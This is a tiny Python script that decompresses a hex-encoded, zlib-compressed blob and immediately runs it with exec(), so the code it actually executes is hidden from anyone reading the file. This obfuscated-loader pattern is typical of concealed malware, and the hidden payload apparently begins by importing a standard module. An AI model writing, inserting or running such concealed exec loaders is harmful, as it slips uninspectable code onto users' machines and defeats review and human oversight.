import zlib as z

payload = bytes.fromhex("789ccbcc2dc82f2a5128ce282dc9ccb186d27a45b92545a9a91a4afae5f945d9c50589c9a94a9a005c590f99")
exec(compile(z.decompress(payload), "<x>", "exec"))
